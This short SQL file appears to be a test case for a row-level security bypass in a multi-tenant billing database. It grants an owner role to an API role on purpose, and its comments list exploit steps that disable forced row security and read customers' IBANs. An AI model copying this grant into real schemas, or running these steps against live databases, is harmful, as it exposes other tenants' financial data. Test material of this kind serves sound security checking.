-- Tenant A reads all rows as a member of the owner, who may disable the row security.
-- about: ho_billing, owner_can_disable
-- as: ho_billing_api
-- exploit: SET billing.account = '1';
-- exploit: ALTER TABLE billing.customers NO FORCE ROW LEVEL SECURITY;
-- exploit: SELECT iban FROM billing.customers;
-- shows: IBAN-secret
GRANT ho_billing_owner TO ho_billing_api;
